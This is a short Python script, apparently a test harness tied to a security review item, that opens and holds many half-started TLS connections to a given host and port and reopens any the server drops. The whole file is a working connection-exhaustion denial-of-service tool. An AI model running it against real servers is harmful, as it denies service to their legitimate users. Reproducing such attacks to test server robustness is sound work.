"""flood.py HOST PORT N - holds N connections to HOST:PORT, each of which
has sent a byte (the start of a TLS record), and reopens every one the
server closes, every 50 ms; it prints "holding" once it held them all.
Another user runs it against a job's socket (review row 3e)."""
import socket, sys, time
addr, n = (sys.argv[1], int(sys.argv[2])), int(sys.argv[3])
socks, said = [], False
while True:
    while len(socks) < n:
        try:
            s = socket.create_connection(addr)
            s.sendall(b"\x16")
            s.setblocking(False)
            socks.append(s)
        except OSError:
            break
    if not said and len(socks) == n:
        print("holding", flush=True)
        said = True
    time.sleep(0.05)
    alive = []
    for s in socks:
        try:
            if s.recv(512) == b"":
                s.close()
                continue
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            continue
        alive.append(s)
    socks = alive
